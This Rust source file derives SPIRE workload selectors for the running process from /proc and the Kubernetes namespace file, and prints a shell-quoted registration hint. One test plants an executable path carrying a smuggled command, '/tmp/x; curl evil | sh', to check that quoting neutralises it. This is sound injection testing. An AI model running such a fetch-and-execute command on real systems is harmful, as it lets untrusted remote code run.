//! How an agent sees this process: the selectors that a registration entry would have to name.

use std::path::Path;

use host::Env;

/// This process, as the attestors of an agent see it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Process {
    uid: Option<u32>,
    gid: Option<u32>,
    executable: Option<String>,
    namespace: Option<String>,
}

impl Process {
    pub(crate) async fn of(env: &dyn Env) -> Self {
        let status = text(env, "/proc/self/status", STATUS_CAP).await.unwrap_or_default();
        let namespace = match env.var("KUBERNETES_SERVICE_HOST") {
            Some(_) => text(env, NAMESPACE, 256).await,
            None => None,
        };
        let namespace =
            namespace.map(|name| host::escape_remote(&name)).filter(|name| !name.is_empty());
        let maps = text(env, "/proc/self/maps", MAPS_CAP).await.unwrap_or_default();
        Self {
            uid: effective(&status, "Uid:"),
            gid: effective(&status, "Gid:"),
            executable: executable(&maps).map(host::escape_remote),
            namespace,
        }
    }

    /// The selectors of SPIRE that match this process, the most telling first.
    pub(crate) fn selectors(&self) -> Vec<String> {
        let namespace = self.namespace.iter().map(|name| format!("k8s:ns:{name}"));
        let uid = self.uid.iter().map(|uid| format!("unix:uid:{uid}"));
        let gid = self.gid.iter().map(|gid| format!("unix:gid:{gid}"));
        let path = self.executable.iter().map(|path| format!("unix:path:{path}"));
        namespace.chain(uid).chain(gid).chain(path).collect()
    }

    /// How to register a process without a registration.
    pub(crate) fn register(&self) -> String {
        let selectors = self.selectors();
        // For pasting: what cannot be quoted is not offered.
        let first = selectors.iter().find_map(|selector| host::shell_quote(selector));
        let first = first.unwrap_or_else(|| ANY_USER.to_owned());
        let all = match selectors.is_empty() {
            true => ANY_USER.to_owned(),
            false => selectors.join("`, `"),
        };
        format!(
            "this process would match an entry with the selectors `{all}`; register it with the \
             agent's server, for SPIRE: `spire-server entry create -parentID AGENT -spiffeID ID \
             -selector {first}`"
        )
    }
}

async fn text(env: &dyn Env, path: &str, cap: usize) -> Option<String> {
    let bytes = env.read(Path::new(path), cap).await.ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The second of the four numbers after `name` (proc_pid_status(5)).
fn effective(status: &str, name: &str) -> Option<u32> {
    let line = status.lines().find_map(|line| line.strip_prefix(name))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// The executable is mapped below everything else (proc_pid_maps(5)): the path after five fields.
fn executable(maps: &str) -> Option<&str> {
    maps.lines().find_map(|line| {
        let start = line.find('/')?;
        line.get(start..).map(|path| path.trim_end_matches(" (deleted)"))
    })
}

const ANY_USER: &str = "unix:uid:$(id -u)";
const NAMESPACE: &str = "/var/run/secrets/kubernetes.io/serviceaccount/namespace";
const STATUS_CAP: usize = 64 << 10;
const MAPS_CAP: usize = 1 << 20;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_and_path_are_read_from_proc() {
        let status = "Name:\tambisign\nUid:\t1\t1000\t1\t1\nGid:\t2\t2000\t2\t2\n";
        assert_eq!(effective(status, "Uid:"), Some(1000));
        assert_eq!(effective(status, "Gid:"), Some(2000));
        assert_eq!(effective("Uid:\tx", "Uid:"), None);
        let maps = "55d0-55d1 r--p 00000000 08:01 1234   /usr/bin/a b\n7f00-7f01 r-xp 0 0:0 0 \
                    /lib/c.so\n";
        assert_eq!(executable(maps), Some("/usr/bin/a b"));
        assert_eq!(executable("7f00-7f01 rw-p 0 0:0 0\n"), None);
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn this_very_process_is_described() {
        let status = std::fs::read("/proc/self/status").unwrap();
        let maps = std::fs::read("/proc/self/maps").unwrap();
        let env = host::FakeEnv::new()
            .with_file("/proc/self/status", status)
            .with_file("/proc/self/maps", maps);
        let mut context = std::task::Context::from_waker(std::task::Waker::noop());
        let std::task::Poll::Ready(process) = std::pin::pin!(Process::of(&env)).poll(&mut context)
        else {
            panic!("a fake waited")
        };
        let own = std::env::current_exe().unwrap();
        assert_eq!(process.executable.as_deref(), own.to_str());
        assert!(process.selectors().iter().any(|it| it.starts_with("unix:uid:")));
        assert!(process.register().contains("spire-server entry create"));
    }

    #[test]
    fn without_proc_the_hint_still_says_how() {
        let nothing = Process { uid: None, gid: None, executable: None, namespace: None };
        assert!(nothing.register().contains("-selector unix:uid:$(id -u)"));
        let pod = Process { namespace: Some("build".to_owned()), ..nothing };
        assert_eq!(pod.selectors(), ["k8s:ns:build"]);
        let planted = Process {
            executable: Some("/tmp/x; curl evil | sh".to_owned()),
            namespace: None,
            ..pod
        };
        let hint = planted.register();
        assert!(hint.ends_with("-selector 'unix:path:/tmp/x; curl evil | sh'`"), "{hint}");
    }
}
